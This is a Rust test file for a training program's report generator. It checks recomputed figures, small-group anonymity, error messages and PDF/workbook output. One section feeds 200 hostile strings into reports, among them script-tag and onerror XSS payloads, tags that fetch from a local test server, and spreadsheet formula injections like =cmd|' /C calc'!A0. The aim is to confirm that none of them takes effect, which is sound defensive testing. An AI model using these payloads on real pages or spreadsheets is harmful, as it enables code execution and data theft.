//! Reports as they are called: a room of scripted people does the whole exercise,
//! and every number on the pages is computed again from the exported tables by a
//! script that knows nothing of the program. Small groups, hostile texts, errors.

#![expect(clippy::unwrap_used, reason = "a test may fail loudly")]

use std::collections::BTreeSet;
use std::fs;
use std::io::{BufRead, BufReader, Cursor, Write};
use std::path::{Path, PathBuf};
use std::process::{Child, ChildStdin, ChildStdout, Command, Output, Stdio};
use std::sync::{Arc, OnceLock};

use calamine::{Data, Reader, open_workbook_auto_from_rs};
use other_desk::exercise::truth::Looked;
use other_desk::exercise::{Commitment, Next, Programme, Progress, Question, Said, ShiftResult, Trainee};
use other_desk::records::pack_folder::open_pack;
use other_desk::report::group::Group;
use other_desk::report::pages::{group, trainee};
use other_desk::report::record::TraineeRecord;
use other_desk::report::tables::{Row, Source, tables};
use other_desk::report::{html, pdf, workbook};
use other_desk::scenario::checked::{ExerciseId, Scenario, ShiftId};
use other_desk::telling::words::words_of;
use other_desk::vocab::Desk;
use tempfile::TempDir;

#[path = "report/facilitated.rs"]
mod facilitated;
#[path = "report/office.rs"]
mod office;
#[path = "report/summaries.rs"]
mod summaries;

const SWAP_DAY: &str = "scenarios/swap-day";

fn program(arguments: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_other-desk")).args(arguments).env("LANG", "C").output().unwrap()
}

#[track_caller]
fn fine(arguments: &[&str]) -> String {
    let output = program(arguments);
    let errors = String::from_utf8_lossy(&output.stderr).into_owned();
    assert_eq!(output.status.code(), Some(0), "{arguments:?}\n{errors}");
    String::from_utf8(output.stdout).unwrap()
}

#[track_caller]
fn refused(arguments: &[&str]) -> String {
    let output = program(arguments);
    assert_eq!(output.status.code(), Some(2), "{arguments:?}");
    String::from_utf8(output.stderr).unwrap()
}

/// A room of 24 in which everybody has done the exercise, played once for all tests.
fn room() -> &'static Path {
    static ROOM: OnceLock<TempDir> = OnceLock::new();
    ROOM.get_or_init(|| {
        let folder = tempfile::tempdir().unwrap();
        let into = folder.path().to_str().unwrap();
        let said = fine(&[
            "simulate",
            SWAP_DAY,
            "--exercise",
            "three-days",
            "--people",
            "24",
            "--seed",
            "5",
            "--lang",
            "en",
            "--into",
            into,
        ]);
        assert!(said.starts_with("24 people have done the exercise."), "{said}");
        folder
    })
    .path()
}

/// Writes a report in a format, and hands back where.
fn written(folder: &TempDir, arguments: &[&str], format: &str, lang: &str) -> PathBuf {
    let out = folder.path().join(format!("{}-{lang}.{format}", arguments[0]));
    let mut all = vec!["report", arguments[0], SWAP_DAY];
    all.extend(&arguments[1..]);
    all.extend(["--format", format, "--lang", lang, "--out", out.to_str().unwrap()]);
    fine(&all);
    out
}

/// The page, computed again from the tables.
#[track_caller]
fn agrees(arguments: &[&str], lang: &str, at_least: usize) {
    let folder = tempfile::tempdir().unwrap();
    let page = written(&folder, arguments, "html", lang);
    let csv = written(&folder, arguments, "csv", lang);
    let output =
        Command::new("python3").arg("tests/report/recompute.py").args([&page, &csv]).output().unwrap();
    let told = String::from_utf8_lossy(&output.stdout).into_owned();
    let errors = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(output.status.success(), "{arguments:?} in {lang}:\n{told}{errors}");
    let figures: usize = told.split(' ').next().unwrap().parse().unwrap();
    assert!(figures >= at_least, "only {told}");
    // A number that is changed on the page is found.
    let text = fs::read_to_string(&page).unwrap();
    let (before, after) = text.rsplit_once("data-figure=").unwrap();
    let (name, after) = after.split_once('>').unwrap();
    fs::write(&page, format!("{before}data-figure={name}>7{after}")).unwrap();
    let output =
        Command::new("python3").arg("tests/report/recompute.py").args([&page, &csv]).output().unwrap();
    assert_eq!(output.status.code(), Some(1), "a changed number was not found");
}

#[test]
fn every_number_of_a_groups_page_follows_from_its_tables() {
    let kept = room().to_str().unwrap();
    for lang in ["en", "ja", "ru"] {
        agrees(&["group", "--dir", kept], lang, 100);
    }
}

#[test]
fn every_number_of_a_trainees_page_follows_from_its_tables() {
    let kept = room().to_str().unwrap();
    // One from each desk.
    agrees(&["trainee", "--dir", kept, "--trainee", "seat-03"], "en", 200);
    agrees(&["trainee", "--dir", kept, "--trainee", "seat-04"], "ja", 200);
    agrees(&["trainee", "--dir", kept, "--trainee", "seat-03"], "ru", 200);
}

#[test]
fn every_number_of_a_guide_follows_from_its_tables() {
    for lang in ["en", "ja", "ru"] {
        agrees(&["guide"], lang, 20);
    }
}

#[test]
fn nobody_is_named_in_what_is_about_a_group() {
    let kept = room().to_str().unwrap();
    let folder = tempfile::tempdir().unwrap();
    let page = fs::read_to_string(written(&folder, &["group", "--dir", kept], "html", "en")).unwrap();
    assert!(!page.contains("seat-"), "a pseudonym stands on the page");
    let csv = written(&folder, &["group", "--dir", kept], "csv", "en");
    for entry in fs::read_dir(csv).unwrap() {
        let text = fs::read_to_string(entry.unwrap().path()).unwrap();
        assert!(!text.contains("seat-"));
    }
    // What somebody promises stands beside nobody's number.
    let commitments = fs::read_to_string(folder.path().join("group-en.csv/commitments.csv")).unwrap();
    assert!(commitments.starts_with("\u{feff}situation,act,by,ask"), "{commitments}");
}

#[test]
fn of_fewer_than_eight_nothing_is_shown() {
    let small = tempfile::tempdir().unwrap();
    let into = small.path().join("kept");
    for number in 1..=7 {
        let from = room().join(format!("swap-day/three-days/seat-{number:02}"));
        copy(&from, &into.join(format!("swap-day/three-days/seat-{number:02}")));
    }
    let kept = into.to_str().unwrap();
    let page = fs::read_to_string(written(&small, &["group", "--dir", kept], "html", "en")).unwrap();
    assert!(page.contains("Too few people for results"));
    for name in ["heat/", "moment/", "choice/", "statistic/", "telling/", "moment-lost/"] {
        assert!(!page.contains(&format!("data-figure=\"{name}")), "{name}");
    }
    assert!(!page.contains("class=\"card\""), "a commitment is shown");
    for format in ["csv", "xlsx"] {
        let out = small.path().join("out");
        let error = refused(&[
            "report",
            "group",
            SWAP_DAY,
            "--dir",
            kept,
            "--format",
            format,
            "--lang",
            "en",
            "--out",
            out.to_str().unwrap(),
        ]);
        assert!(error.contains("Only 7 people have attempts here."), "{error}");
        assert!(!out.exists());
    }
    // Eight are a group; four of each desk are none.
    copy(&room().join("swap-day/three-days/seat-08"), &into.join("swap-day/three-days/seat-08"));
    let folder = tempfile::tempdir().unwrap();
    let page = fs::read_to_string(written(&folder, &["group", "--dir", kept], "html", "en")).unwrap();
    assert!(page.contains("data-figure=\"statistic/accuracy/mean\"") || page.contains("statistic/away/mean"));
    assert!(!page.contains("data-figure=\"heat/"), "four people are shown");
    agrees(&["group", "--dir", kept], "en", 20);
}

fn copy(from: &Path, to: &Path) {
    fs::create_dir_all(to).unwrap();
    for entry in fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let to = to.join(entry.file_name());
        if entry.path().is_dir() {
            copy(&entry.path(), &to);
        } else {
            fs::copy(entry.path(), to).unwrap();
        }
    }
}

#[test]
fn attempts_are_told_apart_and_compared() {
    let folder = tempfile::tempdir().unwrap();
    let into = folder.path().join("kept");
    for seed in ["5", "6"] {
        fine(&[
            "simulate",
            SWAP_DAY,
            "--exercise",
            "three-days",
            "--people",
            "8",
            "--seed",
            seed,
            "--lang",
            "en",
            "--into",
            into.to_str().unwrap(),
        ]);
    }
    let kept = into.to_str().unwrap();
    agrees(&["group", "--dir", kept], "en", 20);
    agrees(&["trainee", "--dir", kept, "--trainee", "seat-02"], "en", 200);
    agrees(&["trainee", "--dir", kept, "--trainee", "seat-02", "--attempt", "1"], "ru", 200);
    let page = fs::read_to_string(written(&folder, &["group", "--dir", kept], "html", "en")).unwrap();
    assert!(page.contains("data-figure=\"attempts/latest\""));
}

#[test]
fn mistakes_are_answered_in_plain_words() {
    let kept = room().to_str().unwrap();
    let trainee = |name: &'static str| {
        refused(&["report", "trainee", SWAP_DAY, "--dir", kept, "--lang", "en", "--trainee", name])
    };
    assert!(
        trainee("nobody")
            .contains("Nobody is kept here under the name “nobody”. There are: seat-01, seat-02")
    );
    let error = refused(&[
        "report",
        "trainee",
        SWAP_DAY,
        "--dir",
        kept,
        "--lang",
        "ru",
        "--trainee",
        "seat-01",
        "--attempt",
        "9",
    ]);
    assert!(error.contains("нет такой попытки. Есть: 1"), "{error}");
    let empty = tempfile::tempdir().unwrap();
    let path = empty.path().to_str().unwrap();
    let error = refused(&["report", "group", SWAP_DAY, "--dir", path, "--lang", "en"]);
    assert!(error.contains("There are no attempts at this exercise"), "{error}");
    // What is there already stays, unless it is said.
    let out = empty.path().join("guide.html");
    fs::write(&out, "mine").unwrap();
    let guide = ["report", "guide", SWAP_DAY, "--lang", "en", "--out", out.to_str().unwrap()];
    assert!(refused(&guide).contains("is there already"));
    assert_eq!(fs::read_to_string(&out).unwrap(), "mine");
    fine(&[&guide[..], &["--replace"]].concat());
    assert!(fs::read_to_string(&out).unwrap().starts_with("<!DOCTYPE html>"));
}

#[test]
fn the_guide_has_the_shifts_in_the_order_of_the_exercise() {
    let folder = tempfile::tempdir().unwrap();
    let page = fs::read_to_string(written(&folder, &["guide"], "html", "en")).unwrap();
    let heading = |title: &str| {
        let headings = page.match_indices("<h3>").map(|(at, _)| at);
        let found = headings.filter(|at| page[*at..].split("</h3>").next().unwrap().contains(title)).min();
        found.unwrap_or_else(|| panic!("{title} has no heading"))
    };
    let days = ["Twenty minutes at the sales", "Tuesday at", "Wednesday at", "Thursday at"].map(heading);
    assert!(days.is_sorted(), "{days:?}");
}

#[test]
fn every_report_is_a_pdf_and_a_workbook_in_three_languages() {
    let kept = room().to_str().unwrap();
    let folder = tempfile::tempdir().unwrap();
    for lang in ["en", "ja", "ru"] {
        for arguments in
            [&["guide"][..], &["group", "--dir", kept], &["trainee", "--dir", kept, "--trainee", "seat-01"]]
        {
            let pdf = fs::read(written(&folder, arguments, "pdf", lang)).unwrap();
            assert!(pdf.starts_with(b"%PDF-") && pdf.len() > 30_000, "{arguments:?} {lang}");
            let book = fs::read(written(&folder, arguments, "xlsx", lang)).unwrap();
            let book = open_workbook_auto_from_rs(Cursor::new(book)).unwrap();
            assert!(book.sheet_names().len() >= 4);
        }
    }
}

// --- hostile texts ---

/// Two hundred names and notes that want to be something else.
fn hostile(address: &str) -> Vec<String> {
    let fetch = format!("http://{address}/x");
    let mark = "document.documentElement.setAttribute('data-taken','1')";
    let mut texts = vec![
        format!("<script>{mark}</script>"),
        format!("<img src=\"{fetch}\" onerror=\"{mark}\">"),
        format!("<svg onload=\"{mark}\"></svg>"),
        format!("\"><script>{mark}</script>"),
        format!("'><script src='{fetch}'></script>"),
        format!("</style><script>{mark}</script>"),
        format!("</title><script>{mark}</script>"),
        format!("</span></p></main><iframe src=\"{fetch}\"></iframe>"),
        format!("<link rel=stylesheet href=\"{fetch}\">"),
        format!("<style>@import url({fetch});</style>"),
        format!("<meta http-equiv=refresh content=\"0;url={fetch}\">"),
        format!("<base href=\"{fetch}\">"),
        format!("<form action=\"{fetch}\"><input autofocus onfocus=\"{mark}\">"),
        format!("javascript:{mark}"),
        format!("<a href=\"javascript:{mark}\">x</a>"),
        format!("<math><mtext><img src=x onerror=\"{mark}\">"),
        format!("=HYPERLINK(\"{fetch}\",\"x\")"),
        format!("=WEBSERVICE(\"{fetch}\")"),
        format!("=IMPORTXML(\"{fetch}\",\"//a\")"),
        "=cmd|' /C calc'!A0".to_owned(),
        "+cmd|' /C calc'!A0".to_owned(),
        "-2+3+cmd|' /C calc'!A0".to_owned(),
        "@SUM(1+1)*cmd|' /C calc'!A0".to_owned(),
        "\t=1+1".to_owned(),
        "\r=1+1".to_owned(),
        "\n=1+1".to_owned(),
        " =1+1".to_owned(),
        "\u{3000}＝1+1".to_owned(),
        "＋1+1".to_owned(),
        "－1+1".to_owned(),
        "＠SUM(1)".to_owned(),
        "%0A=1+1".to_owned(),
        "|calc".to_owned(),
        "\";=1+1".to_owned(),
        ",=1+1,".to_owned(),
        "\"=1+1\"".to_owned(),
        "a\"b\"\"c".to_owned(),
        "a\r\n=1+1".to_owned(),
        "\u{feff}=1+1".to_owned(),
        "\u{202e}gnp.exe".to_owned(),
        "a\u{0}b\u{1}c\u{7f}".to_owned(),
        "\u{e000}quality/home\u{e001}99\u{e003}".to_owned(),
        "]]><!--".to_owned(),
        "&lt;b&gt;&amp;&#0;".to_owned(),
        "{ $name } { -term }".to_owned(),
        "月曜から「使えない」".to_owned(),
        "Ирина; \"О'Нил\"".to_owned(),
        "_x000D_=1".to_owned(),
        "-5".to_owned(),
        "0800".to_owned(),
    ];
    // The same in the middle, doubled and very long.
    let more: Vec<String> = texts
        .iter()
        .flat_map(|text| {
            [format!("a {text} b"), format!("{text}{text}"), format!("{text}{}", "x".repeat(300))]
        })
        .collect();
    texts.extend(more);
    assert_eq!(texts.len(), 200);
    texts
}

/// Somebody with hostile commitments who has passed over everything else; three
/// commitments are the most.
fn somebody(scenario: &Arc<Scenario>, texts: &[String]) -> TraineeRecord {
    let programme = Programme::new(scenario, ExerciseId(0));
    let who = Trainee { name: texts[0].clone(), home: Desk::Sales, attempt: 1, seed: 1, form: None };
    let mut progress = Progress::begin(programme, who);
    loop {
        let said = match progress.next(programme) {
            Next::Finished => break,
            Next::Reveal { .. } => Said::Seen,
            // What is said to have been played leaves no recording here.
            Next::Play { shift, day, seed, .. } => {
                let shift = scenario.shift(shift);
                Said::Played(ShiftResult {
                    shift: shift.id.clone(),
                    desk: shift.desk,
                    day,
                    seed,
                    recording: texts[1].clone(),
                    played_by: Some(texts[2].clone()),
                    quality_milli: Some(50_000),
                    handled: 1,
                    replies: 1,
                    closing_reflex: 0,
                    troubleshooting_reflex: 0,
                })
            }
            Next::Ask { question: Question::Insider(..), .. } => Said::Enough,
            Next::Ask { question: Question::Commitment(number), .. } => {
                let part = |place: usize| {
                    let text = texts.get(4 * number + place).map_or("", String::as_str);
                    let text = if text.trim().is_empty() { "x" } else { text };
                    text.chars().take(500).collect::<String>()
                };
                Said::Commitment(Commitment { situation: part(0), act: part(1), by: part(2), ask: part(3) })
            }
            Next::Ask { .. } => Said::Passed,
        };
        progress.accept(programme, said).unwrap();
    }
    TraineeRecord::of(progress, Vec::new())
}

fn begins_like_a_formula(text: &str) -> bool {
    let first = text.chars().find(|letter| !matches!(letter, ' ' | '\u{3000}' | '\u{feff}'));
    let number = text.trim_start_matches(['-', '+']).chars().all(|letter| letter.is_ascii_digit());
    !number && first.is_some_and(|first| "=+-@\t\r＝＋－＠".contains(first))
}

#[test]
fn two_hundred_hostile_texts_do_nothing_anywhere() {
    let mut browser = Browser::start();
    let scenario = open_pack(Path::new(SWAP_DAY)).unwrap();
    let words = words_of(Some("en")).unwrap();
    let truths = |_: ShiftId| Looked::default();
    let source =
        Source { programme: Programme::new(&scenario, ExerciseId(0)), words: &words, truths: &truths };
    let texts = hostile(&browser.address);
    let records: Vec<TraineeRecord> = texts.chunks(12).map(|texts| somebody(&scenario, texts)).collect();
    assert!(records.iter().map(|record| record.progress.commitments().count()).sum::<usize>() >= 48);

    // Spreadsheets.
    let mut all = tables(
        source,
        &records
            .iter()
            .map(|record| Row { person: record.progress.trainee.clone(), record })
            .collect::<Vec<_>>(),
    );
    all.retain(|table| !table.rows.is_empty());
    for table in &all {
        let mut bytes = Vec::new();
        table.write(&mut bytes).unwrap();
        let text = String::from_utf8(bytes).unwrap();
        let mut reader = csv_reader(&text);
        let width = reader.headers().unwrap().len();
        let rows: Vec<_> = reader.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), table.rows.len(), "{}", table.name);
        for row in &rows {
            assert_eq!(row.len(), width);
            assert!(row.iter().all(|cell| !begins_like_a_formula(cell)), "{row:?}");
        }
    }
    let book = workbook::write(&words, &all).unwrap();
    let mut book = open_workbook_auto_from_rs(Cursor::new(book)).unwrap();
    for name in book.sheet_names() {
        assert!(book.worksheet_formula(&name).unwrap().is_empty(), "{name}");
        for row in book.worksheet_range(&name).unwrap().rows() {
            let formula =
                row.iter().any(|cell| matches!(cell, Data::String(text) if begins_like_a_formula(text)));
            assert!(!formula, "{row:?}");
        }
    }

    // Pages: the elements are those of a harmless page.
    let harmless: Vec<String> = (0..12).map(|_| "harmless".to_owned()).collect();
    let tags = |page: &str| -> BTreeSet<String> {
        let tags = page.split('<').skip(1).map(|tag| {
            tag.chars()
                .take_while(|letter| letter.is_ascii_alphanumeric() || "!/".contains(*letter))
                .collect()
        });
        tags.collect()
    };
    let safe = html::write(&trainee::trainee(source, &somebody(&scenario, &harmless)));
    for record in &records {
        let document = trainee::trainee(source, record);
        let page = html::write(&document);
        assert_eq!(tags(&page), tags(&safe));
        assert!(pdf::write(&document).unwrap().starts_with(b"%PDF-"));
        browser.opens(&page);
    }
    let page = html::write(&group::group(source, &Group::of(source, &records)));
    let others: Vec<TraineeRecord> = records.iter().map(|_| somebody(&scenario, &harmless)).collect();
    let safe = html::write(&group::group(source, &Group::of(source, &others)));
    assert_eq!(tags(&page), tags(&safe));
    browser.opens(&page);
}

fn csv_reader(text: &str) -> csv::Reader<&[u8]> {
    csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes())
}

/// A real browser, where there is one, and somebody who would hear of it if a page
/// asked for anything.
struct Browser {
    child: Child,
    asks: ChildStdin,
    answers: BufReader<ChildStdout>,
    address: String,
}

impl Browser {
    fn start() -> Self {
        let mut child = Command::new("python3")
            .arg("tests/report/browser.py")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let asks = child.stdin.take().unwrap();
        let mut answers = BufReader::new(child.stdout.take().unwrap());
        let mut address = String::new();
        answers.read_line(&mut address).unwrap();
        Self { child, asks, answers, address: address.trim().to_owned() }
    }

    /// No script of a page runs, and nothing is asked for.
    #[track_caller]
    fn opens(&mut self, page: &str) {
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("page.html");
        fs::write(&path, page).unwrap();
        writeln!(self.asks, "{}", path.display()).unwrap();
        let mut answer = String::new();
        self.answers.read_line(&mut answer).unwrap();
        assert!(matches!(answer.trim(), "fine" | "no browser"), "{answer}");
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}
